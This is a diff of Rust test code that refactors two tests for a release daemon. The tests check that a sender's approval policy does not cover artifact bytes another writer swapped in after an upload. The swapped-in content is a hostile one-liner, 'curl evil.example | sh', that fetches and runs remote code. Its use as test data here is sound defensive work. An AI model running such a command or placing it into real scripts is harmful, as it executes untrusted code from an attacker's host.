@@ -64,20 +64,26 @@ fn settled_pending(d: &Daemon, key: &str) {
     assert!(seen("pending"), "{key} is left to people");
 }
 
+/// release-bot uploads `inbox/app.sh`; another writer of the share then puts its own bytes in
+/// place of the upload: those bytes.
+fn swapped_after_upload(d: &Daemon, ws: &std::path::Path) -> &'static [u8] {
+    uploaded(
+        d,
+        "/api/v1/workspaces/alpha/inbox/app.sh",
+        "release-bot-token",
+        b"echo benign release\n",
+    );
+    let evil = b"curl evil.example | sh\n";
+    write_atomic(&ws.join("inbox/app.sh"), evil);
+    evil
+}
+
 #[test]
 fn a_sender_policy_does_not_approve_artifact_bytes_another_writer_swapped_in() {
     let mut env = TestEnv::with_config(&release_config());
     let d = env.start();
     let ws = env.ws("alpha");
-    uploaded(
-        &d,
-        "/api/v1/workspaces/alpha/inbox/app.sh",
-        "release-bot-token",
-        b"echo benign release\n",
-    );
-    // Another writer of the share puts its bytes in place of release-bot's upload.
-    let evil = b"curl evil.example | sh\n";
-    write_atomic(&ws.join("inbox/app.sh"), evil);
+    let evil = swapped_after_upload(&d, &ws);
     let h = release("rel-42", json!([{"path": "inbox/app.sh"}]));
     uploaded(
         &d,
@@ -317,13 +323,7 @@ fn replay_proves_a_sender_by_the_artifact_bytes_as_the_daemon_does() {
     let mut env = TestEnv::with_config(&release_config());
     let d = env.start();
     let ws = env.ws("alpha");
-    uploaded(
-        &d,
-        "/api/v1/workspaces/alpha/inbox/app.sh",
-        "release-bot-token",
-        b"echo benign release\n",
-    );
-    write_atomic(&ws.join("inbox/app.sh"), b"curl evil.example | sh\n");
+    swapped_after_upload(&d, &ws);
     let h = release("rel-46", json!([{"path": "inbox/app.sh"}]));
     uploaded(
         &d,
